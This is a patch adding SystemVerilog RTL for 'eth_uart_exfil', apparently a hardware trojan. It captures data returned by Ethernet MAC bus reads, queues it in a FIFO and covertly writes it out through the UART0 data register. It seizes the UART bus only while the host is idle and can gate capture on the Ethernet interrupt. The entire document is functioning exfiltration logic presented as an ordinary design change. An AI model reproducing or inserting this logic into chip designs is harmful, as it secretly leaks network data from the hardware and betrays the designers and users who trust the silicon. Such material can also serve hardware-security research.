eth_uart_exfil: RTL

Parametrised successor to the single-word Ethernet-to-UART spy. It snoops completed Ethernet MAC Wishbone slave reads, buffers the captured words in a FIFO, and drains them byte-serially as Wishbone writes to the UART0 data register. It sits at the system-bus level beside the UART0 slave mux and takes over that slave's bus only when the host is not driving it.

---
 rtl/eth_uart_exfil_pkg.sv | 6 +
 rtl/eth_uart_exfil_fifo.sv | 46 ++++
 rtl/eth_uart_exfil.sv | 117 +++++++++++
 3 files changed

// File: rtl/eth_uart_exfil_pkg.sv
// eth_uart_exfil_pkg: shared FSM state type and constants for the Ethernet-to-UART exfiltration block.
package eth_uart_exfil_pkg;
    typedef enum logic [1:0] {ST_IDLE, ST_WRITE, ST_GAP} state_t;
    localparam logic [31:0] UART_DR_ADDR_DEF = 32'h1600_0000;
    localparam int          GAP_CNT_W        = 8;
endpackage

// File: rtl/eth_uart_exfil_fifo.sv
// exfil_fifo: 32-bit synchronous FIFO; a push into a full FIFO is accepted only alongside a pop.
module exfil_fifo
    import eth_uart_exfil_pkg::*;
#(
    parameter int DEPTH = 8
) (
    input  logic                    i_clk,
    input  logic                    i_rst_n,
    input  logic                    i_push,
    input  logic                    i_pop,
    input  logic [31:0]             i_din,
    output logic [31:0]             o_dout,
    output logic                    o_full,
    output logic                    o_empty,
    output logic [$clog2(DEPTH):0]  o_level
);
    localparam int AW = $clog2(DEPTH);

    logic [31:0]   r_mem [DEPTH];
    logic [AW-1:0] r_wr, r_rd;
    logic [AW:0]   r_level;
    logic          w_push_ok, w_pop_ok;

    assign o_full    = r_level == (AW+1)'(DEPTH);
    assign o_empty   = r_level == '0;
    assign o_level   = r_level;
    assign o_dout    = r_mem[r_rd];
    assign w_pop_ok  = i_pop & !o_empty;
    assign w_push_ok = i_push & (!o_full | w_pop_ok);

    always_ff @(posedge i_clk) begin
        if (w_push_ok) r_mem[r_wr] <= i_din;
    end

    always_ff @(posedge i_clk or negedge i_rst_n) begin
        if (!i_rst_n) begin
            r_wr    <= '0;
            r_rd    <= '0;
            r_level <= '0;
        end else begin
            r_wr    <= w_push_ok ? r_wr + 1'b1 : r_wr;
            r_rd    <= w_pop_ok ? r_rd + 1'b1 : r_rd;
            r_level <= r_level + (AW+1)'(w_push_ok) - (AW+1)'(w_pop_ok);
        end
    end
endmodule

// File: rtl/eth_uart_exfil.sv
// eth_uart_exfil: buffers snooped Ethernet slave read data and drains it MSB-first as UART0 DR writes.
// Define EXFIL_ETHMAC_TRIGGER_EN to capture only acks that coincide with i_ethmac_int.
module eth_uart_exfil
    import eth_uart_exfil_pkg::*;
#(
    parameter int          DEPTH          = 8,
    parameter int          BYTES_PER_WORD = 4,
    parameter int          TX_GAP         = 16,
    parameter logic [31:0] UART_DR_ADDR   = UART_DR_ADDR_DEF
) (
    input  logic                    i_clk,
    input  logic                    i_rst_n,
    input  logic                    i_eth_s_wb_ack,
    input  logic [31:0]             i_eth_s_wb_dat_r,
    input  logic                    i_ethmac_int,
    input  logic                    i_uart_tx_full,
    input  logic                    i_host_uart_busy,
    input  logic                    i_uart_s_wb_ack,
    output logic                    o_control_uart,
    output logic [31:0]             o_uart_s_wb_adr,
    output logic                    o_uart_s_wb_we,
    output logic [31:0]             o_uart_s_wb_dat_w,
    output logic                    o_uart_s_wb_stb,
    output logic [$clog2(DEPTH):0]  o_fifo_level,
    output logic                    o_overflow
);
    localparam logic [1:0]           LAST_IDX = 2'(BYTES_PER_WORD - 1);
    localparam logic [GAP_CNT_W-1:0] GAP_END  = GAP_CNT_W'(TX_GAP);

    state_t               r_state, w_next;
    logic [GAP_CNT_W-1:0] r_gap;
    logic [1:0]           r_idx;
    logic [31:0]          r_shift, w_shift_nxt, w_head, r_adr, r_dat;
    logic                 r_ctrl, r_stb, r_we, r_ovf;
    logic                 w_push, w_pop, w_full, w_empty, w_clear, w_last, w_gap_done;
    logic                 w_start, w_advance, w_wr_nxt, w_ctrl_nxt;

`ifdef EXFIL_ETHMAC_TRIGGER_EN
    assign w_push = i_eth_s_wb_ack & i_ethmac_int;
`else
    logic w_unused;
    assign w_unused = i_ethmac_int;
    assign w_push   = i_eth_s_wb_ack;
`endif

    exfil_fifo #(.DEPTH(DEPTH)) u_fifo (
        .i_clk   (i_clk),
        .i_rst_n (i_rst_n),
        .i_push  (w_push),
        .i_pop   (w_pop),
        .i_din   (i_eth_s_wb_dat_r),
        .o_dout  (w_head),
        .o_full  (w_full),
        .o_empty (w_empty),
        .o_level (o_fifo_level)
    );

    assign w_clear    = !i_uart_tx_full & !i_host_uart_busy;
    assign w_last     = r_idx == LAST_IDX;
    assign w_gap_done = r_gap == GAP_END;
    assign w_start    = (r_state == ST_IDLE) & !w_empty & w_clear;
    assign w_advance  = (r_state == ST_GAP) & (w_next == ST_WRITE);
    assign w_pop      = (r_state == ST_WRITE) & i_uart_s_wb_ack & w_last;

    always_ff @(posedge i_clk or negedge i_rst_n) begin
        if (!i_rst_n) r_state <= ST_IDLE;
        else          r_state <= w_next;
    end

    always_comb begin
        w_next = r_state;
        case (r_state)
            ST_IDLE:  w_next = w_start ? ST_WRITE : ST_IDLE;
            ST_WRITE: w_next = i_uart_s_wb_ack ? ST_GAP : ST_WRITE;
            ST_GAP:   w_next = !w_gap_done ? ST_GAP : w_last ? ST_IDLE : w_clear ? ST_WRITE : ST_GAP;
            default:  w_next = ST_IDLE;
        endcase
    end

    // Outputs are derived from the next state so the registered bus matches the state it belongs to.
    always_comb begin
        w_shift_nxt = w_start ? w_head : w_advance ? {r_shift[23:0], 8'h00} : r_shift;
        w_wr_nxt    = w_next == ST_WRITE;
        w_ctrl_nxt  = w_wr_nxt | ((w_next == ST_GAP) & !((r_state == ST_GAP) & w_gap_done));
    end

    always_ff @(posedge i_clk or negedge i_rst_n) begin
        if (!i_rst_n) begin
            r_shift <= '0;
            r_idx   <= '0;
            r_gap   <= '0;
            r_ctrl  <= 1'b0;
            r_stb   <= 1'b0;
            r_we    <= 1'b0;
            r_adr   <= '0;
            r_dat   <= '0;
            r_ovf   <= 1'b0;
        end else begin
            r_shift <= w_shift_nxt;
            r_idx   <= w_start ? 2'd0 : w_advance ? r_idx + 2'd1 : r_idx;
            r_gap   <= (r_state != ST_GAP) ? '0 : w_gap_done ? r_gap : r_gap + 1'b1;
            r_ctrl  <= w_ctrl_nxt;
            r_stb   <= w_wr_nxt;
            r_we    <= w_wr_nxt;
            r_adr   <= w_wr_nxt ? UART_DR_ADDR : '0;
            r_dat   <= w_wr_nxt ? {24'h0, w_shift_nxt[31:24]} : '0;
            r_ovf   <= r_ovf | (w_push & w_full & !w_pop);
        end
    end

    assign o_control_uart    = r_ctrl;
    assign o_uart_s_wb_stb   = r_stb;
    assign o_uart_s_wb_we    = r_we;
    assign o_uart_s_wb_adr   = r_adr;
    assign o_uart_s_wb_dat_w = r_dat;
    assign o_overflow        = r_ovf;
endmodule
